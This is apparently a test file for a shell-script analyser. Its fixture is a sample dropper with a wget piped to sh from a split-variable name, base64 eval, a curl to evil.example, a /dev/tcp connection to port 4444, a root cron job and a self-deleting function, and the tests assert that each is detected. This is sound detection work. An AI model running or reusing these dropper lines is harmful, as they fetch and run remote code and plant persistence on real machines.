"""What the syntax tree of a shell script shows."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from malkoha.processing import shell

SCRIPT = rb"""#!/bin/bash
# wget http://comment.example/
a=wg; b=et
$a$b http://198.51.100.3/a.sh -O- | sh
echo "wget http://text.example/"
eval "$(echo aWQ= | base64 -d)"
sudo nohup curl -fsSL https://evil.example/y > /tmp/y
exec 3<>/dev/tcp/203.0.113.7/4444
cat > /etc/cron.d/x <<'EOF'
* * * * * root /tmp/.x
EOF
hide() { rm -f "$0"; }
"""


def test_what_a_dropper_does() -> None:
    found = shell.describe(SCRIPT)
    assert found["downloads"] == [
        "wget http://198.51.100.3/a.sh -O-",
        "sudo nohup curl -fsSL https://evil.example/y",
    ]
    assert found["piped_to_interpreter"] == ["wget http://198.51.100.3/a.sh -O- | sh"]
    assert found["hidden_names"] == ["$a$b http://198.51.100.3/a.sh -O- = wget http://198.51.100.3/a.sh -O-"]
    assert found["evaluates"] == ["eval $(echo aWQ= | base64 -d)"]
    assert found["connections"] == ["3<>/dev/tcp/203.0.113.7/4444"]
    assert found["functions"] == ["hide"]
    assert found["heredocs"][0]["text"] == "* * * * * root /tmp/.x\n"
    assert found["heredocs"][0]["to"].startswith("cat > /etc/cron.d/x")


def test_a_variable_that_changes_is_not_put_in() -> None:
    assert "hidden_names" not in shell.describe(b"a=ls\na=wget\n$a x\n") or "ls x" not in str(
        shell.describe(b"a=ls\na=wget\n$a x\n")
    )


def test_a_harmless_script_says_nothing() -> None:
    assert shell.describe(b"#!/bin/sh\nset -e\nfor f in *.txt; do echo $f; done\n") == {}


def test_deep_nesting_and_long_lists_are_bounded() -> None:
    assert isinstance(shell.describe(b"(" * 20_000 + b"ls"), dict)
    found = shell.describe(
        b"wget http://x.example/$RANDOM\n" + b"".join(b"curl h%d\n" % number for number in range(1000))
    )
    assert len(found["downloads"]) == shell.LIMIT
    assert found["cut"] > 0


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=2000))
def test_nothing_raises(data: bytes) -> None:
    shell.describe(data)
